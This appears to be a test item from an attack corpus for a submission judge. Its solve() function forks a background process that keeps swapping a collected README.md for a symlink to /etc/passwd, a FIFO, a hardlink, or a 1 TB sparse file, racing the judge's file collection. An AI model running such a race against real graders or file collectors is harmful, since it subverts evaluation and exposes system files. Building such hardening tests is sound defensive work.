# ID: 271
# SLUG: collecting-races
# CATEGORY: files
# ATTACK: swaps files, links, holes of a terabyte, FIFOs and folders while the judge may be
#     collecting them
# VULNERABLE JUDGE: a link is followed between looking and opening, or a file is read without an
#     end
# MUST HAPPEN HERE: only plain files of bounded size are taken, opened without following
# EXPECT-VERDICT: fail   (never pass)
import glob
import itertools
import os
import time

if os.environ.get("ATTACK_CORPUS_IN_SANDBOX") != "1" and (
    os.geteuid() == 0 or not (os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv"))
):
    raise RuntimeError("attack corpus: refusing to run as root or outside a container")


def swap(root, turn):
    name = f"{root}/README.md"
    try:
        os.replace(name, f"{root}/old-{turn}") if os.path.lexists(name) else None
        if turn % 4 == 0:
            os.symlink("/etc/passwd", name)
        elif turn % 4 == 1:
            os.mkfifo(name)
        elif turn % 4 == 2:
            os.link(f"{root}/work.py", name)
        else:
            with open(name, "wb") as file:
                file.truncate(1 << 40)
    except OSError:
        pass


def solve(x):
    if os.fork() == 0:
        os.setsid()
        end = time.monotonic() + 20
        for turn in itertools.count():
            for root in [*glob.glob("/runs/*"), "/submission"]:
                swap(root, turn)
            if time.monotonic() > end:
                os._exit(0)
    return "wrong-answer"
